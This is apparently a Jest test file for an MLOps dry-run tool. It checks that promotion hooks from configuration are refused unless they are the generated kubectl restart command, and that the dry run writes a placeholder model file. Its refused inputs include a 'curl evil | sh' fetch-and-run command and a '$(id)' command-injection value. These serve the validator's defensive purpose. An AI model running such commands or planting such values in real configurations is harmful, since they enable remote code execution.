import { promotionHookRefusal, promotionInputs } from '../../src/cli/dry-run-promotion';

describe('the dry run and promotions', () => {
  test('runs only the restart hook the library generates, never a command the YAML names', () => {
    expect(promotionHookRefusal({})).toBeUndefined();
    expect(promotionHookRefusal({ MLOPS_PROMOTION_HOOKS: JSON.stringify([{ description: 'restart', command: ['kubectl', 'rollout', 'restart', 'deployment/churn-server'] }]) })).toBeUndefined();
    const refused = 'MLOPS_PROMOTION_HOOKS names a command other than `kubectl rollout restart deployment/<name>`; a dry run runs no command a file names';
    expect(promotionHookRefusal({ MLOPS_PROMOTION_HOOKS: JSON.stringify([{ command: ['bash', '-c', 'curl evil | sh'] }]) })).toBe(refused);
    expect(promotionHookRefusal({ MLOPS_PROMOTION_HOOKS: JSON.stringify([{ command: ['kubectl', 'rollout', 'restart', 'deployment/x', '--kubeconfig=/etc/x'] }]) })).toBe(refused);
    expect(promotionHookRefusal({ MLOPS_PROMOTION_HOOKS: JSON.stringify([{ command: ['kubectl', 'rollout', 'restart', 'deployment/$(id)'] }]) })).toBe(refused);
    expect(promotionHookRefusal({ MLOPS_PROMOTION_HOOKS: 'not json' })).toBe('MLOPS_PROMOTION_HOOKS is not JSON');
  });

  test('the step writing a promotion\'s model folder leaves a file in it', () => {
    const job = (name: string, env: Array<{ name: string; value: string }>) => ({
      apiVersion: 'batch/v1', kind: 'Job', metadata: { name }, spec: { template: { spec: { containers: [{ env }] } } },
    });
    const own = [
      job('p-train-1', [{ name: 'MLOPS_OUTPUT_MODEL', value: '/mnt/workspace/p/train-1/model' }]),
      job('p-promote-2', [{ name: 'MLOPS_REGISTRY_MODEL', value: '/mnt/registry/m' }, { name: 'MLOPS_INPUT_MODEL', value: '/mnt/workspace/p/train-1/model' }]),
    ];
    expect(promotionInputs([{ step: 'train', job: 'p-train-1' }, { step: 'promote', job: 'p-promote-2' }], own as any))
      .toEqual({ train: { '/mnt/workspace/p/train-1/model/model.bin': 'a model written by the dry run' } });
  });
});
